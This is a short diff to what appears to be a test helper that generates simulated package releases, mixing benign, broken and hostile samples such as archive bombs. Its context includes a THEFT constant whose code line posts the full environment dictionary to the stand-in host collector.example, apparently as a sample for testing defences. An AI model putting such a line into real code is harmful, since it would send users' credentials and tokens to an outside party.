@@ -34,9 +34,9 @@ class Published:
 def releases(count: int, folder: Path, chance: random.Random, *, whole: bool) -> list[Published]:
     """Make so many releases: a tenth simulants, a tenth broken or poison, the rest harmless; shuffled."""
     simulants = list(_simulants(max(4, count // 10), folder))
-    kinds = (*KINDS, *SLOW_KINDS) if whole else KINDS
-    bad = [kinds[number % len(kinds)](number) for number in range(max(len(kinds), count // 10))]
-    bad += [_run(number) for number in range(6 if whole else 0)]
+    bad = [KINDS[number % len(KINDS)](number) for number in range(max(len(KINDS), count // 10))]
+    if whole:
+        bad += [_slow(number) for number in range(2)] + [_run(number) for number in range(6)]
     every = simulants + bad + [_benign(number) for number in range(count - len(simulants) - len(bad))]
     chance.shuffle(every)
     return every
@@ -131,4 +131,3 @@ THEFT = (
     "urllib.request.urlopen('https://collector.example/in', data=repr(dict(os.environ)).encode())\n"
 )
 KINDS = (_not_an_archive, _cut_short, _empty, _gone, _deep, _bomb)
-SLOW_KINDS = (_slow,)
